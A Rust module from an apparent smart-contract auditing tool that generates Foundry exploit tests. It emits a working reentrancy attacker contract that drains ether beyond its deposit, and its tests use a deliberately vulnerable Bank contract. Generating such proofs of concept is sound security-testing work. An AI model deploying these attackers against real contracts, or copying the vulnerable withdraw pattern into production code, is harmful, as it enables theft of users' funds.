//! Exploit suite: proof-of-concept tests for detected vulnerabilities.
//!
//! Reentrancy findings get a working attacker contract and a test whose
//! assertion holds while the target is exploitable. Everything else gets a
//! named stub with guidance for writing the test by hand.

use crate::config::SynthesisConfig;
use crate::core::{Vulnerability, VulnerabilityKind};
use crate::model::{ContractKind, ContractModel, FunctionModel, TypeDescriptor};
use crate::synthesis::source::{
    sanitize_identifier, ContractSource, Member, SourceFile, Statement, UniqueNames,
};
use crate::synthesis::values;
use tracing::debug;

const FUNDING_HINTS: &[&str] = &["deposit", "stake", "fund", "mint", "buy", "contribute"];

/// Victim deposit made in `setUp`.
const VICTIM_STAKE: &str = "10 ether";
const ATTACK_VALUE: &str = "1 ether";

/// Payable entry point used to put ether into the target: a deposit-like
/// name first, then any other payable function.
fn funding_function<'a>(contract: &'a ContractModel, exclude: &str) -> Option<&'a FunctionModel> {
    let candidates = || {
        contract.functions.iter().filter(|f| {
            f.is_callable_externally() && !f.is_special() && f.is_payable() && f.name != exclude
        })
    };
    candidates()
        .find(|f| {
            let lower = f.name.to_lowercase();
            FUNDING_HINTS.iter().any(|h| lower.contains(h))
        })
        .or_else(|| candidates().next())
}

/// Arguments for a call: uint256 slots take `amount`, addresses take
/// `account`, everything else a placeholder literal.
fn call_arguments(function: &FunctionModel, amount: &str, account: &str) -> String {
    function
        .parameters
        .iter()
        .map(|p| match &p.ty {
            ty if ty.is_uint256() => amount.to_string(),
            TypeDescriptor::Elementary(crate::model::ElementaryType::Address { payable: true }) => {
                format!("payable({})", account)
            }
            ty if ty.is_address() => account.to_string(),
            ty => values::default_value(ty),
        })
        .collect::<Vec<_>>()
        .join(", ")
}

fn attacker_contract(
    contract: &ContractModel,
    function: &FunctionModel,
    attacker_name: &str,
    config: &SynthesisConfig,
) -> ContractSource {
    let name = contract.name.as_str();
    let mut attacker = ContractSource::new(attacker_name).with_doc(format!(
        "Re-enters {}.{} from its receive hook.",
        name, function.name
    ));

    attacker.push(Member::field(format!("{} public target", name)));
    attacker.push(Member::field("uint256 public reentries"));
    attacker.push(Member::field(format!(
        "uint256 public constant MAX_REENTRIES = {}",
        config.max_reentries
    )));
    attacker.push(Member::field("uint256 public contribution"));

    attacker.push(Member::callable(
        format!("constructor({} _target)", name),
        vec![Statement::line("target = _target")],
    ));

    let mut attack = vec![Statement::line("contribution = msg.value")];
    match funding_function(contract, &function.name) {
        Some(fund) => attack.push(Statement::line(format!(
            "target.{}{{value: msg.value}}({})",
            fund.name,
            call_arguments(fund, "msg.value", "address(this)")
        ))),
        None => attack.push(Statement::comment(format!(
            "TODO: {} has no payable entry point; credit this contract with `contribution` here.",
            name
        ))),
    }
    let reenter = format!(
        "target.{}({})",
        function.name,
        call_arguments(function, "contribution", "address(this)")
    );
    attack.push(Statement::line(reenter.clone()));
    attacker.push(Member::callable("function attack() external payable", attack));

    attacker.push(Member::callable(
        "receive() external payable",
        vec![Statement::block(
            "if (reentries < MAX_REENTRIES && address(target).balance >= contribution)",
            vec![Statement::line("reentries += 1"), Statement::line(reenter)],
        )],
    ));

    attacker
}

fn stub_guidance(vulnerability: &Vulnerability) -> String {
    let function = vulnerability.function.as_str();
    match vulnerability.kind {
        VulnerabilityKind::Reentrancy => format!(
            "Re-enter `{}` from a receive hook and assert the attacker gains more than it paid.",
            function
        ),
        VulnerabilityKind::UncheckedSend => format!(
            "Make the recipient reject ether, call `{}` and assert state is rolled back.",
            function
        ),
        VulnerabilityKind::MissingAccessControl => format!(
            "Call `{}` as an unprivileged actor (vm.prank) and expect a revert.",
            function
        ),
        VulnerabilityKind::FrontRunning => format!(
            "Land a competing transaction ahead of `{}` and assert the victim's outcome is unchanged.",
            function
        ),
        VulnerabilityKind::DenialOfService => format!(
            "Make one external call in `{}` revert or run out of gas and assert the function still completes.",
            function
        ),
    }
}

/// Renders `<Name>.vuln.t.sol`, or `None` when there are no findings.
pub fn exploit_suite(
    contract: &ContractModel,
    vulnerabilities: &[Vulnerability],
    config: &SynthesisConfig,
    source_file: &str,
) -> Option<String> {
    if vulnerabilities.is_empty() {
        return None;
    }
    if contract.kind == ContractKind::Library {
        debug!("{} is a library, skipping exploit suite", contract.name);
        return None;
    }

    let name = contract.name.as_str();
    let deployable = contract.kind == ContractKind::Contract && !contract.is_abstract;

    let mut file = SourceFile::new(&config.solidity_version)
        .import("Test", "forge-std/Test.sol")
        .import(
            name,
            format!(
                "{}/{}",
                config.source_import_path.trim_end_matches('/'),
                source_file
            ),
        );

    let mut contract_names = UniqueNames::new();
    contract_names.claim(name);
    contract_names.claim(&format!("{}ExploitTest", name));

    let mut test = ContractSource::new(format!("{}ExploitTest", name)).inherits("Test");
    test.push(Member::field(format!("{} public target", name)));
    test.push(Member::field("address internal victim"));

    let mut setup = Vec::new();
    if deployable {
        setup.push(Statement::line(format!(
            "target = new {}({})",
            name,
            values::constructor_arguments(contract)
        )));
    } else {
        setup.push(Statement::comment(format!(
            "TODO: {} cannot be deployed directly; assign a concrete implementation to `target`.",
            name
        )));
    }
    setup.push(Statement::line("victim = makeAddr(\"victim\")"));
    setup.push(Statement::line(format!("vm.deal(victim, {})", VICTIM_STAKE)));
    match funding_function(contract, "") {
        Some(fund) => {
            setup.push(Statement::line("vm.prank(victim)"));
            setup.push(Statement::line(format!(
                "target.{}{{value: {}}}({})",
                fund.name,
                VICTIM_STAKE,
                call_arguments(fund, VICTIM_STAKE, "victim")
            )));
        }
        None => setup.push(Statement::comment(
            "TODO: give the target a balance owned by `victim`.",
        )),
    }
    test.push(Member::callable("function setUp() public", setup));

    let mut test_names = UniqueNames::new();
    test_names.claim("setUp");

    for vulnerability in vulnerabilities {
        let function = match vulnerability.kind {
            VulnerabilityKind::Reentrancy => contract.function(&vulnerability.function),
            _ => None,
        };

        match function {
            Some(function) => {
                let attacker = contract_names.claim(&format!("{}Attacker_{}", name, function.name));
                file.push(attacker_contract(contract, function, &attacker, config));

                test.push(Member::Comment(format!(
                    "Passes while {} is vulnerable: the attacker withdraws more than it put in.\n\
                     Once the reentrancy is fixed this test fails.",
                    function.name
                )));
                test.push(Member::callable(
                    format!(
                        "function {}() public",
                        test_names.claim(&format!("test_exploit_{}", vulnerability.id))
                    ),
                    vec![
                        Statement::line(format!(
                            "{attacker} attacker = new {attacker}(target)",
                            attacker = attacker
                        )),
                        Statement::line(format!("attacker.attack{{value: {}}}()", ATTACK_VALUE)),
                        Statement::line(format!(
                            "assertGt(address(attacker).balance, attacker.contribution(), \"{}\")",
                            vulnerability.id.replace('"', "'")
                        )),
                    ],
                ));
            }
            None => {
                let mut guidance = format!(
                    "TODO: {}\n{}",
                    vulnerability.title,
                    stub_guidance(vulnerability)
                );
                if !vulnerability.remediation.is_empty() {
                    guidance.push_str(&format!("\nFix: {}", vulnerability.remediation));
                }
                test.push(Member::callable(
                    format!(
                        "function {}() public pure",
                        test_names.claim(&format!("test_{}", sanitize_identifier(&vulnerability.id)))
                    ),
                    vec![Statement::comment(guidance)],
                ));
            }
        }
    }

    file.push(test);
    Some(file.render())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::AnalysisConfig;
    use crate::model::parse_single;
    use crate::vulnerabilities::detect;

    const BANK: &str = r#"
        contract Bank {
            mapping(address => uint256) public balances;

            function deposit() external payable {
                balances[msg.sender] += msg.value;
            }

            function withdraw(uint256 amount) external {
                require(balances[msg.sender] >= amount, "insufficient");
                (bool ok, ) = msg.sender.call{value: amount}("");
                require(ok, "send failed");
                balances[msg.sender] -= amount;
            }
        }
    "#;

    #[test]
    fn test_reentrancy_exploit() {
        let contract = parse_single(BANK);
        let findings = detect(&contract, &AnalysisConfig::default());
        let rendered =
            exploit_suite(&contract, &findings, &SynthesisConfig::default(), "Bank.sol").unwrap();

        assert_eq!(rendered.matches('{').count(), rendered.matches('}').count());
        assert!(rendered.contains("contract BankAttacker_withdraw {"));
        assert!(rendered.contains("uint256 public constant MAX_REENTRIES = 5;"));
        assert!(rendered.contains("target.deposit{value: msg.value}();"));
        assert!(rendered.contains("target.withdraw(contribution);"));
        assert!(rendered.contains(
            "if (reentries < MAX_REENTRIES && address(target).balance >= contribution) {"
        ));
        assert!(rendered.contains("contract BankExploitTest is Test {"));
        assert!(rendered.contains("target.deposit{value: 10 ether}();"));
        assert!(rendered.contains("function test_exploit_VULN_REENTRANCY_withdraw() public {"));
        assert!(rendered.contains("attacker.attack{value: 1 ether}();"));
        assert!(rendered.contains(
            "assertGt(address(attacker).balance, attacker.contribution(), \"VULN-REENTRANCY-withdraw\");"
        ));
        assert!(rendered.contains("// Passes while withdraw is vulnerable"));
    }

    #[test]
    fn test_other_findings_become_stubs() {
        let contract = parse_single(
            r#"
            contract Minter {
                mapping(address => uint256) public balances;
                function mint(address to, uint256 amount) public {
                    balances[to] += amount;
                }
            }
            "#,
        );
        let findings = detect(&contract, &AnalysisConfig::default());
        assert_eq!(findings.len(), 1);

        let rendered =
            exploit_suite(&contract, &findings, &SynthesisConfig::default(), "Minter.sol").unwrap();
        assert!(!rendered.contains("Attacker"));
        assert!(rendered.contains(&format!(
            "function test_{}() public pure {{",
            sanitize_identifier(&findings[0].id)
        )));
        assert!(rendered.contains("as an unprivileged actor"));
        assert!(rendered.contains("// TODO: give the target a balance owned by `victim`."));
    }

    #[test]
    fn test_no_suite_without_findings() {
        let contract = parse_single(BANK);
        assert!(exploit_suite(&contract, &[], &SynthesisConfig::default(), "Bank.sol").is_none());
    }

    #[test]
    fn test_max_reentries_is_configurable() {
        let contract = parse_single(BANK);
        let findings = detect(&contract, &AnalysisConfig::default());
        let config = SynthesisConfig {
            max_reentries: 2,
            ..SynthesisConfig::default()
        };
        let rendered = exploit_suite(&contract, &findings, &config, "Bank.sol").unwrap();
        assert!(rendered.contains("uint256 public constant MAX_REENTRIES = 2;"));
    }
}
